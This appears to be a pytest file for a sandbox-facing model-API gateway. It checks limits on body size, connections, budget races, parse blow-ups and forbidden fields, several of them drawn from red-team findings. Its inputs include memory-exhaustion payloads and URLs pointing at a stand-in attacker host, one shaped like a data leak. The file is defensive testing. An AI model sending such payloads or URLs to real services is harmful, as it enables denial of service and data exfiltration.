"""The model gateway's own limits, against a real gateway on a Unix socket: it lives in
the worker, outside the sandbox's memory and process limits, so what the sandbox sends
it must not be able to exhaust the worker."""

from __future__ import annotations

import json
import socket
import threading
import time
from pathlib import Path
from typing import Any

import anthropic
import httpx2

from bot.core.models import ModelSpec
from bot.core.pricing import usage_from
from bot.core.rules.loop import budget
from bot.core.rules.loop.budget import Budget, Spent
from jobs import precall
from jobs.gateway import messages as gateway

SPEC = ModelSpec("claude-x", 200_000, 8_000, False, frozenset())


def start(tmp_path: Path) -> gateway.ModelGateway:
    client = anthropic.Anthropic(api_key="sk-real", base_url="http://127.0.0.1:9")
    return gateway.ModelGateway(
        client,
        gateway.Policy("claude-x", SPEC, 1000),
        run_dir=tmp_path / "gw",
        guard=lambda request: budget.Call(tokens=1, usd=0.0),
        charge=lambda model, used: None,
    ).start()


def connect(gw: gateway.ModelGateway) -> socket.socket:
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(5)
    s.connect(str(gw.socket_path))
    return s


def answer(s: socket.socket) -> bytes:
    out = b""
    while b"\r\n\r\n" not in out:
        chunk = s.recv(4096)
        if not chunk:
            break
        out += chunk
    return out


def test_a_body_larger_than_the_api_takes_is_refused_unread(tmp_path: Path) -> None:
    gw = start(tmp_path)
    try:
        s = connect(gw)
        s.sendall(
            b"POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key: "
            + gw.placeholder.encode()
            + b"\r\ncontent-length: 40000000000\r\n\r\n{"
        )
        assert answer(s).startswith(b"HTTP/1.1 413")
        for bad in (b"-5", b"lots"):
            s = connect(gw)
            s.sendall(
                b"POST /v1/messages HTTP/1.1\r\nHost: x\r\ncontent-length: " + bad + b"\r\n\r\n"
            )
            assert answer(s).startswith(b"HTTP/1.1 413")
        assert gw.calls == 0
    finally:
        gw.stop()


def test_connections_past_the_bound_are_closed_and_slots_come_back(tmp_path: Path) -> None:
    gw = start(tmp_path)
    try:
        held = [connect(gw) for _ in range(gateway.MAX_CONNECTIONS)]
        time.sleep(0.3)  # each is being served (a thread waits for its request)
        extra = connect(gw)
        assert extra.recv(10) == b""  # closed unanswered
        for s in held:
            s.close()
        time.sleep(0.3)
        again = connect(gw)
        again.sendall(b"GET /v1/models HTTP/1.1\r\nHost: x\r\n\r\n")
        assert answer(again).startswith(b"HTTP/1.1 404")
    finally:
        gw.stop()


# -- red team findings F1-F4: the gateway against concurrency, unpriced features, cuts ------

MODEL = "claude-opus-4-8"  # $5 / $25 per MTok (bot/core/pricing.py)
OPUS = ModelSpec(MODEL, 200_000, 8_000, False, frozenset())


def sse(output_tokens: int) -> bytes:
    events = [
        (
            "message_start",
            {
                "type": "message_start",
                "message": {
                    "id": "m",
                    "type": "message",
                    "role": "assistant",
                    "model": MODEL,
                    "content": [],
                    "stop_reason": None,
                    "usage": {"input_tokens": 100, "output_tokens": 1},
                },
            },
        ),
        (
            "content_block_start",
            {
                "type": "content_block_start",
                "index": 0,
                "content_block": {"type": "text", "text": ""},
            },
        ),
        (
            "content_block_delta",
            {
                "type": "content_block_delta",
                "index": 0,
                "delta": {"type": "text_delta", "text": "hi"},
            },
        ),
        ("content_block_stop", {"type": "content_block_stop", "index": 0}),
        (
            "message_delta",
            {
                "type": "message_delta",
                "delta": {"stop_reason": "end_turn"},
                "usage": {"output_tokens": output_tokens},
            },
        ),
        ("message_stop", {"type": "message_stop"}),
    ]
    return b"".join(f"event: {k}\ndata: {json.dumps(d)}\n\n".encode() for k, d in events)


def upstream_client(handler: Any) -> anthropic.Anthropic:
    """The real SDK, its transport answered by ``handler`` (the SDK's own HTTP library)."""
    return anthropic.Anthropic(
        api_key="sk-real",
        base_url="http://api.test",
        http_client=httpx2.Client(transport=httpx2.MockTransport(handler)),
    )


def post(gw: gateway.ModelGateway, body: dict[str, Any], headers: str = "") -> bytes:
    data = json.dumps(body).encode()
    s = connect(gw)
    s.settimeout(30)
    s.sendall(
        b"POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key: "
        + gw.placeholder.encode()
        + headers.encode()
        + b"\r\ncontent-length: "
        + str(len(data)).encode()
        + b"\r\n\r\n"
        + data
    )
    out = b""
    while not _whole(out):
        chunk = s.recv(65536)
        if not chunk:
            break
        out += chunk
    s.close()
    return out


def _whole(out: bytes) -> bool:
    """An answer read to its end: its content-length, or its last chunk."""
    head, sep, rest = out.partition(b"\r\n\r\n")
    if not sep:
        return False
    for line in head.lower().split(b"\r\n"):
        if line.startswith(b"content-length:"):
            return len(rest) >= int(line.split(b":")[1])
    return rest.endswith(b"0\r\n\r\n")


def test_concurrent_calls_cannot_overrun_the_budget_together(tmp_path: Path) -> None:
    """Sixteen calls at once, each of whose worst case ($0.20) fits a $0.30 budget
    alone: the gateway judges each against a spend that holds the ones before it, so
    one is billed and the rest are refused (F1: 16 were billed, $3.21)."""
    billed: list[float] = []

    def upstream(request: httpx2.Request) -> httpx2.Response:
        time.sleep(0.3)
        billed.append(usage_from(MODEL, _U(100, 8000)).cost_usd)
        return httpx2.Response(
            200, headers={"content-type": "text/event-stream"}, content=sse(8000)
        )

    limits = Budget(usd=0.30, tokens=10_000_000, turns=10, hours=10)
    spent = {"usd": 0.0}

    def guard(request: dict[str, Any]) -> budget.Call:  # as precall.guard: read, then judge
        worst = budget.worst_call(MODEL, budget.input_bound(request), int(request["max_tokens"]))
        out = budget.before_call(limits, Spent(usd=spent["usd"]), worst)
        if out is not None:
            raise precall.OverBudget(out.detail)
        return worst

    def charge(model: str, used: Any) -> None:
        spent["usd"] += used.cost_usd

    gw = gateway.ModelGateway(
        upstream_client(upstream),
        gateway.Policy(MODEL, OPUS, 8000),
        run_dir=tmp_path / "gw",
        guard=guard,
        charge=charge,
    ).start()
    body = {"model": MODEL, "max_tokens": 8000, "stream": True, "messages": [USER]}
    try:
        at_once([lambda: post(gw, body)] * gateway.MAX_CONNECTIONS)
    finally:
        gw.stop()
    assert len(billed) == 1 and sum(billed) <= limits.usd, billed


def test_fields_betas_and_tools_that_change_the_price_or_reach_out_are_not_sent(
    tmp_path: Path,
) -> None:
    """Fast mode, the 1M-context beta, service tiers, remote MCP servers: dropped before
    the API sees them. Server tools (billed per use, with the API's network) and content
    the API would fetch from a URL are refused (F2)."""
    seen: list[httpx2.Request] = []

    def upstream(request: httpx2.Request) -> httpx2.Response:
        seen.append(request)
        return httpx2.Response(200, headers={"content-type": "text/event-stream"}, content=sse(10))

    gw = gateway.ModelGateway(
        upstream_client(upstream),
        gateway.Policy(MODEL, OPUS, 8000),
        run_dir=tmp_path / "gw",
        guard=lambda request: budget.Call(tokens=1, usd=0.0),
        charge=lambda model, used: None,
    ).start()
    base = {"model": MODEL, "max_tokens": 100, "stream": True, "messages": [USER]}
    try:
        post(
            gw,
            {
                **base,
                "speed": "fast",
                "inference_geo": "us",
                "service_tier": "auto",
                "mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp"}],
                "container": "c",
            },
            "\r\nanthropic-beta: fast-mode-2026-02-01,context-1m-2025-08-07,"
            "mcp-client-2025-04-04,claude-code-20250219,effort-2025-11-24",
        )
        server_tool = post(gw, {**base, "tools": [{"type": "web_search_20250305", "name": "w"}]})
        fetched = post(
            gw,
            {
                **base,
                "messages": [
                    {
                        "role": "user",
                        "content": [
                            {
                                "type": "document",
                                "source": {"type": "url", "url": "https://attacker.example/?d=S"},
                            },
                            {"type": "text", "text": "hi"},
                        ],
                    }
                ],
            },
        )
    finally:
        gw.stop()
    assert len(seen) == 1
    sent = json.loads(seen[0].content)
    assert set(sent) <= gateway.FIELDS and "speed" not in sent and "mcp_servers" not in sent
    assert seen[0].headers["anthropic-beta"] == "claude-code-20250219,effort-2025-11-24"
    assert server_tool.startswith(b"HTTP/1.1 400") and b"only custom tools" in server_tool
    assert fetched.startswith(b"HTTP/1.1 400") and b"URL or file source" in fetched


def test_an_answer_the_api_cuts_off_is_charged_at_its_worst_case(tmp_path: Path) -> None:
    """The API's stream breaks mid-answer (the SDK's transport raises its own error
    type): the call may have been billed in full, so it is charged at its worst case and
    recorded (F3: nothing was charged)."""
    full = sse(8000)
    head = full[: full.index(b"event: message_delta")]

    class Cut(httpx2.SyncByteStream):
        def __iter__(self) -> Any:
            yield head
            raise httpx2.RemoteProtocolError("peer closed connection")

    def upstream(request: httpx2.Request) -> httpx2.Response:
        return httpx2.Response(200, headers={"content-type": "text/event-stream"}, stream=Cut())

    charged: list[Any] = []
    seen: list[gateway.Exchange] = []
    gw = gateway.ModelGateway(
        upstream_client(upstream),
        gateway.Policy(MODEL, OPUS, 8000),
        run_dir=tmp_path / "gw",
        guard=lambda r: budget.worst_call(MODEL, budget.input_bound(r), int(r["max_tokens"])),
        charge=lambda model, used: charged.append(used),
        on_exchange=seen.append,
    ).start()
    try:
        post(gw, {"model": MODEL, "max_tokens": 8000, "stream": True, "messages": [USER]})
        time.sleep(0.3)
    finally:
        gw.stop()
    assert len(charged) == 1 and charged[0].output_tokens >= 8000, charged
    assert seen and seen[0].error == "cut off"


def test_bodies_that_would_blow_up_when_parsed_are_refused_unparsed(tmp_path: Path) -> None:
    """A 32 MB body of ``{}`` (2.7 GB parsed, F4), sent on four connections at once: each
    is refused by its object count before it is parsed, one at a time, and the worker
    grows by about the bodies' bytes, not by gigabytes."""
    gw = start(tmp_path)
    n = (gateway.MAX_BODY - 100) // 3
    data = b'{"model":"claude-x","messages":[' + b"{}," * (n - 1) + b"{}]}"
    answers: list[bytes] = []

    def send() -> None:
        s = connect(gw)
        s.settimeout(60)
        s.sendall(
            b"POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key: "
            + gw.placeholder.encode()
            + b"\r\ncontent-length: "
            + str(len(data)).encode()
            + b"\r\n\r\n"
            + data
        )
        answers.append(answer(s))
        s.close()

    # The peak from here on: the process's high-water mark is reset (clear_refs 5), so
    # an earlier test's peak cannot hide this one's.
    Path("/proc/self/clear_refs").write_text("5")
    before = _status_kb("VmRSS")
    try:
        at_once([send] * 4)
    finally:
        gw.stop()
    grown_mb = (_status_kb("VmHWM") - before) / 1024
    assert len(answers) == 4 and all(a.startswith(b"HTTP/1.1 413") for a in answers), answers
    assert grown_mb < 400, grown_mb


def test_a_body_of_short_strings_is_refused_before_it_is_parsed(tmp_path: Path) -> None:
    """A body just under the API's 32 MB of short strings passes the object count (one
    array) but would grow the worker by some 60 bytes a string parsed (the red team's
    33.6 MB body: +732 MiB, issue 37 item 5). It is refused by its count of values, with
    the API's 413 error shape, and the worker grows by about the body's bytes; a body
    within the bound is still parsed and judged."""
    gw = start(tmp_path)
    head, tail = b'{"model":"claude-x","messages":[{"role":"user","content":"hi"}],"x":[', b"]}"
    n = (gateway.MAX_BODY - len(head) - len(tail)) // 5
    data = head + b'"ab",' * (n - 1) + b'"ab"' + tail
    assert len(data) > 33_000_000
    Path("/proc/self/clear_refs").write_text("5")
    before = _status_kb("VmRSS")
    try:
        s = connect(gw)
        s.settimeout(60)
        s.sendall(
            b"POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key: "
            + gw.placeholder.encode()
            + b"\r\ncontent-length: "
            + str(len(data)).encode()
            + b"\r\n\r\n"
            + data
        )
        refused = answer(s)
        while b"}}" not in refused:
            more = s.recv(4096)
            if not more:
                break
            refused += more
        s.close()
        grown_mb = (_status_kb("VmHWM") - before) / 1024
        # Within the bound: parsed, and judged for what it says (another model: 400).
        small = post(gw, {"model": "claude-y", "messages": [USER], "x": ["ab"] * 1000})
    finally:
        gw.stop()
    assert refused.startswith(b"HTTP/1.1 413"), refused[:200]
    error = json.loads(refused.partition(b"\r\n\r\n")[2])
    assert error["type"] == "error" and error["error"]["type"] == "request_too_large"
    assert "JSON values" in error["error"]["message"]
    assert grown_mb < 100, grown_mb
    assert small.startswith(b"HTTP/1.1 400") and b"claude-y" in small
    assert gw.calls == 0


def _status_kb(field: str) -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    raise AssertionError(f"no {field} in /proc/self/status")


def at_once(calls: list[Any]) -> None:
    """Each of ``calls`` on its own thread, started together; back when all are done."""
    threads = [threading.Thread(target=call) for call in calls]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


class _U:
    def __init__(self, i: int, o: int) -> None:
        self.input_tokens, self.output_tokens = i, o
        self.cache_creation_input_tokens = self.cache_read_input_tokens = 0


USER = {"role": "user", "content": "hi"}


def test_a_compressed_or_undecodable_body_gets_an_answer_not_a_dropped_connection(
    tmp_path: Path,
) -> None:
    """A gzip body (Codex can compress its requests) is refused with 415, unforwarded; a
    body that is not UTF-8 gets a 400, not a crashed handler (the red team's case)."""
    import gzip

    gw = start(tmp_path)
    try:
        packed = gzip.compress(b'{"model": "claude-x", "max_tokens": 5, "messages": []}')
        for extra, body, status in (
            (b"content-encoding: gzip\r\n", packed, b"415"),
            (b"", packed, b"400"),
            (b"", b"\xff\xfe{}", b"400"),
        ):
            s = connect(gw)
            s.sendall(
                b"POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key: "
                + gw.placeholder.encode()
                + b"\r\n"
                + extra
                + f"content-length: {len(body)}\r\n\r\n".encode()
                + body
            )
            assert answer(s).startswith(b"HTTP/1.1 " + status)
        assert gw.calls == 0
    finally:
        gw.stop()
